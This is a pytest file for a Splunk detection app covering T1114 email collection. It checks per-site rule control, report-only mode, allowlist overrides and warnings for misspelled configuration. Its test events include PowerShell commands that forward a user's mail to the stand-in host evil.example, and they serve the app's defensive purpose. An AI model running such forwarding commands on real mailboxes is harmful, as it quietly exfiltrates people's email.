"""Per-site control in local/t1114.conf (rules off, report-only, severity; shipped allowlist rows
switched off) and what bad configuration does: one clear warning each, the rest still applies.
The engine is checked directly and then as splunkd runs the command (chunked protocol)."""

import json
import os
import shutil

from app.engine import Engine
from app.problems import ProblemLog
from app.settings import load_site_config
from tests.conftest import REPO, copy_app_root, without_unsigned
from tools.chunked_client import run, script_path

INBOX_RULE = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "user": "mallory@contoso.com", "_time": "1764216000",
              "ScriptBlockText": "New-InboxRule -Name a -ForwardTo x@evil.example"}
FORWARDING = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "user": "mallory@contoso.com", "_time": "1764216000",
              "ScriptBlockText": "Set-Mailbox -Identity bob -ForwardingSmtpAddress smtp:x@evil.example"}
BOTH = dict(FORWARDING, ScriptBlockText=INBOX_RULE["ScriptBlockText"] + "\n" + FORWARDING["ScriptBlockText"])
# Veeam Agent reading an OST: suppressed by shipped row veeam_agent unless the site switches it off.
VEEAM_READ = {
    "_time": "1764216000", "sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Security", "EventCode": "4663",
    "Computer": "ws-017.contoso.com", "SubjectUserName": "SYSTEM", "SubjectDomainName": "NT AUTHORITY",
    "ObjectType": "File", "ObjectName": r"C:\Users\bob\AppData\Local\Microsoft\Outlook\bob@contoso.com.ost",
    "ProcessName": r"C:\Program Files\Veeam\Endpoint Backup\Veeam.EndPoint.Service.exe",
    "AccessList": "%%4416", "AccessMask": "0x1"}

CONTROL = """
[rule:t1114_003_inbox_rule_forward_cmdlet]
state = report_only

[rule:t1114_003_mailbox_forwarding]
severity = low
risk_score = 20

[rule:t1114_002_legacy_protocol_signin]
state = off

[allowlist]
disabled_shipped_rows = veeam_agent
"""

BAD = """
[rule:t1114_003_mailbox_forwardin]
state = off

[rule:t1114_003_inbox_rule_forward_cmdlet]
state = report_only
sevrity = low

[rule:t1114_002_send_as_grant]
state = sometimes

[allowlist]
disabled_shipped_rows = veeam_agent, sentinelone_agent, veeam_agent, no_such_row

[thresholds]
mail_items_accesed_min_count = 5

[rules:t1114_002_mailsniper]
state = off
"""


def app_root(tmp_path, local_conf, site_files=None):
    root = tmp_path / "approot"
    copy_app_root(root, parts=(("app",), ("default",)))
    (root / "local").mkdir()
    (root / "local" / "t1114.conf").write_text(local_conf)
    for name, text in (site_files or {}).items():
        (root / "lookups" / name).write_text(text)
    return str(root)


def annotated(engine, record):
    record = dict(record)
    engine.annotate(record)
    return record


def finding_of(record, rule):
    """The annotated event's finding of `rule`: other rules may fire on the same event."""
    (finding,) = [f for f in json.loads(record["t1114_findings"]) if f["rule"] == rule]
    return finding


def test_rule_off_report_only_and_severity_override(tmp_path):
    engine = Engine.load(app_root(tmp_path, CONTROL), ProblemLog())
    assert [m for m in engine.problems.messages() if "t1114.conf" in m] == []
    assert "t1114_002_legacy_protocol_signin" not in {rule.id for rule in engine.rules}
    assert len(engine.rules) == len(Engine.load(REPO, ProblemLog()).rules) - 1

    report_only = annotated(engine, INBOX_RULE)
    assert (report_only["t1114_status"], report_only["t1114_rule"]) == ("report_only", "t1114_003_inbox_rule_forward_cmdlet")
    assert report_only["t1114_severity"] == "high"          # its own severity: only alerting changed

    lowered = finding_of(annotated(engine, FORWARDING), "t1114_003_mailbox_forwarding")
    assert (lowered["status"], lowered["severity"], lowered["risk_score"]) == ("finding", "low", 20)
    assert "outside the organisation" in lowered["reason"]  # the escalation's note still explains

    both = annotated(engine, BOTH)
    assert both["t1114_status"] == "finding" and finding_of(both, "t1114_003_mailbox_forwarding")["status"] == "finding"
    # The summary's t1114_rule lists the alerting findings' rules: not the report-only one.
    assert "t1114_003_inbox_rule_forward_cmdlet" not in both["t1114_rule"]


def test_without_local_conf_the_same_events_alert_as_shipped(tmp_path):
    engine = Engine.load(REPO, ProblemLog())
    assert annotated(engine, INBOX_RULE)["t1114_status"] == "finding"
    assert finding_of(annotated(engine, FORWARDING), "t1114_003_mailbox_forwarding")["severity"] == "high"
    assert annotated(engine, VEEAM_READ)["t1114_status"] == "suppressed"


def test_shipped_row_switched_off_no_longer_suppresses(tmp_path):
    engine = Engine.load(app_root(tmp_path, CONTROL), ProblemLog())
    out = annotated(engine, VEEAM_READ)
    assert out["t1114_status"] == "finding" and out["t1114_rule"] == "t1114_001_mail_file_read"
    assert not any(row.row_id == "veeam_agent" for row in engine.allowlist_rows)
    assert any(row.row_id == "backup_exec_remote_agent" for row in engine.allowlist_rows)


def test_site_row_repeating_a_shipped_row_is_named(tmp_path):
    # What a site upgrading from 0.1.0 has: the old shipped rows left in its own file.
    old = ("process_path,process_name,account,host,rules,valid_from,valid_until,reason,source\n"
           "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe,Veeam.EndPoint.Service.exe,,,"
           "t1114_001_mail_file_read;t1114_001_windows_mail_store_read,,,Veeam Agent backup service,x\n")
    engine = Engine.load(app_root(tmp_path, "", {"t1114_allowlist_processes.csv": old}), ProblemLog())
    (message,) = [m for m in engine.problems.messages() if "veeam_agent" in m]
    assert "lookups/t1114_allowlist_processes.csv line 2" in message and "delete the site row" in message


def test_bad_configuration_is_one_warning_each_and_the_rest_applies(tmp_path):
    site = {"t1114_allowlist_accounts.csv": "account,rules,reason,class\n"
                                            "svc-sync@contoso.com,t1114_003_mailbox_forwrding,sync,migration\n"
                                            "svc-old@contoso.com,t1114_9*,nothing,other\n"
                                            "svc-av@contoso.com,,scanner,antivirus\n"}
    engine = Engine.load(app_root(tmp_path, BAD, site), ProblemLog())
    messages = engine.problems.messages()

    def one(*words):
        found = [m for m in messages if all(w in m for w in words)]
        assert len(found) == 1, (words, messages)
        return found[0]

    one("[rule:t1114_003_mailbox_forwardin]", "did you mean t1114_003_mailbox_forwarding?")
    one("sevrity", "did you mean severity?")
    one("state = 'sometimes'", "on, report_only or off")
    one("veeam_agent twice")
    one("no_such_row", "which no shipped row has")
    one("mail_items_accesed_min_count", "did you mean mail_items_accessed_min_count?")
    one("[rules:t1114_002_mailsniper]", "did you mean [rule:<rule id>]?")
    one("lookups/t1114_allowlist_accounts.csv line 2", "t1114_003_mailbox_forwrding",
        "did you mean t1114_003_mailbox_forwarding?")
    one("lookups/t1114_allowlist_accounts.csv line 3", "t1114_9*")
    one("lookups/t1114_allowlist_accounts.csv line 4", "'antivirus'", "still applies")
    assert all(m.count("\n") == 0 for m in messages)

    # ... and everything that is right still applies.
    ids = {rule.id for rule in engine.rules}
    assert {"t1114_003_mailbox_forwarding", "t1114_002_mailsniper", "t1114_002_send_as_grant"} <= ids
    assert annotated(engine, INBOX_RULE)["t1114_status"] == "report_only"
    assert annotated(engine, VEEAM_READ)["t1114_status"] == "finding"             # veeam_agent is off
    sentinel = dict(VEEAM_READ, ProcessName=r"C:\Program Files\SentinelOne\Sentinel Agent 23.4\SentinelAgent.exe")
    assert annotated(engine, sentinel)["t1114_status"] == "finding"              # and so is sentinelone_agent
    av = annotated(engine, dict(FORWARDING, user="svc-av@contoso.com"))
    assert av["t1114_status"] == "suppressed" and "svc-av@contoso.com" in av["t1114_suppressed_by"]


def test_local_list_replaces_defaults_and_a_stanza_named_default_is_ordinary(tmp_path):
    root = app_root(tmp_path, "[default]\n\n[allowlist]\ndisabled_shipped_rows = outlook;outlook_x86\n")
    config = load_site_config(root, ProblemLog())
    assert config.disabled_shipped_rows == [("outlook", "local/t1114.conf"), ("outlook_x86", "local/t1114.conf")]
    assert config.thresholds["mail_items_accessed_min_count"] == "100"


def test_label_shows_every_scoping_column_so_windows_are_told_apart(tmp_path):
    site = {"t1114_allowlist_accounts.csv":
            "account,rules,valid_from,valid_until,reason,class\n"
            "mallory@contoso.com,t1114_003_*,2025-11-01,2025-11-30,November migration,migration\n"
            "mallory@contoso.com,t1114_003_*,2025-11-25,2025-12-31,December migration,migration\n"}
    engine = Engine.load(app_root(tmp_path, "", site), ProblemLog())
    out = annotated(engine, FORWARDING)
    assert out["t1114_suppressed_by"] == (
        "t1114_allowlist_accounts.csv line 2 (account=mallory@contoso.com, rules=t1114_003_*, valid_from=2025-11-01, "
        "valid_until=2025-11-30): November migration")
    (warning,) = [m for m in engine.problems.messages() if "lines 2 and 3" in m]
    assert "different dates" in warning


# --- the same through the command as splunkd runs it ----------------------------------------

def command_app(built_app, tmp_path, local_conf, site_files=None):
    app_copy = str(tmp_path / "t1114_email_collection")
    shutil.copytree(built_app, app_copy)
    os.makedirs(os.path.join(app_copy, "local"))
    with open(os.path.join(app_copy, "local", "t1114.conf"), "w") as handle:
        handle.write(local_conf)
    for name, text in (site_files or {}).items():
        with open(os.path.join(app_copy, "lookups", name), "w") as handle:
            handle.write(text)
    return app_copy


def test_protocol_rule_control(built_app, tmp_path):
    app_copy = command_app(built_app, tmp_path, CONTROL)
    records = [dict(INBOX_RULE, n="1"), dict(FORWARDING, n="2"), dict(VEEAM_READ, n="3"), dict(BOTH, n="4")]
    result = run(script_path(app_copy), records, chunk_size=2)    # mode=findings, as saved searches run it
    assert result["exit_code"] == 0, result["stderr"]
    by_n = {r["n"]: r for r in result["records"]}
    assert sorted(by_n) == ["1", "2", "3", "4"]                    # report-only findings come back too
    assert by_n["1"]["t1114_status"] == "report_only"
    lowered = finding_of(by_n["2"], "t1114_003_mailbox_forwarding")
    assert (lowered["status"], lowered["severity"], lowered["risk_score"]) == ("finding", "low", 20)
    assert by_n["3"]["t1114_status"] == "finding"                   # veeam_agent switched off
    assert by_n["4"]["t1114_status"] == "finding"
    assert [text for level, text in result["messages"] if "t1114.conf" in text] == []


def test_protocol_bad_configuration_warns_in_the_job_inspector(built_app, tmp_path):
    app_copy = command_app(built_app, tmp_path, BAD, {
        "t1114_allowlist_accounts.csv": "account,rules,reason\nsvc-av@contoso.com,t1114_003_mailbox_forwrding,x\n"})
    records = [dict(INBOX_RULE, n=str(n)) for n in range(30)] + [dict(VEEAM_READ, n="v")]
    result = run(script_path(app_copy), records, args=["mode=all"], chunk_size=10)
    assert result["exit_code"] == 0, result["stderr"]
    warnings = [text for level, text in result["messages"] if level == "WARN"]
    for words in (("t1114_003_mailbox_forwardin]", "did you mean t1114_003_mailbox_forwarding?"),
                  ("veeam_agent twice",), ("sevrity", "did you mean severity?"),
                  ("t1114_003_mailbox_forwrding", "did you mean t1114_003_mailbox_forwarding?")):
        assert len([w for w in warnings if all(word in w for word in words)]) == 1, (words, warnings)
    assert len(result["records"]) == 31
    assert {r["t1114_status"] for r in result["records"][:30]} == {"report_only"}
    assert result["records"][30]["t1114_status"] == "finding"


def readme_examples():
    """The README's worked examples: [(class, lookup file, {column: value})]."""
    with open(os.path.join(REPO, "README.md"), encoding="utf-8") as handle:
        text = handle.read()
    table = text[text.index("One worked example per class"):text.index("**Adding a row**")]
    examples = []
    for line in table.splitlines():
        cells = [cell.strip() for cell in line.strip().strip("|").split("|")]
        if len(cells) != 3 or not cells[0].startswith("`"):
            continue
        row = dict(item.strip("`").split("=", 1) for item in cells[2].split("`, `"))
        row["reason"] = row["reason"].split("` (")[0].rstrip("`")
        examples.append((cells[0].strip("`"), "t1114_allowlist_%s.csv" % cells[1], dict(row, **{"class": cells[0].strip("`")})))
    return examples


def test_readme_gives_a_worked_example_per_class_and_each_loads_cleanly(tmp_path):
    import csv
    import io

    from app.allowlist import ROW_CLASSES

    examples = readme_examples()
    assert sorted(c for c, _, _ in examples) == sorted(c for c in ROW_CLASSES if c != "other")
    site = {}
    for _, filename, row in examples:
        site.setdefault(filename, []).append(row)
    files = {}
    for filename, rows in site.items():
        out = io.StringIO()
        writer = csv.DictWriter(out, sorted({k for r in rows for k in r}), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
        files[filename] = out.getvalue()
    engine = Engine.load(app_root(tmp_path, "", files), ProblemLog())
    # The README's table lists each row's own columns; "Adding a row" adds added_by and added_at.
    assert [m for m in without_unsigned(engine.problems.messages()) if "t1114_allowlist_" in m] == []
    loaded = [row for row in engine.allowlist_rows if not row.row_id]
    assert sorted(row.row_class for row in loaded) == sorted(c for c, _, _ in examples)
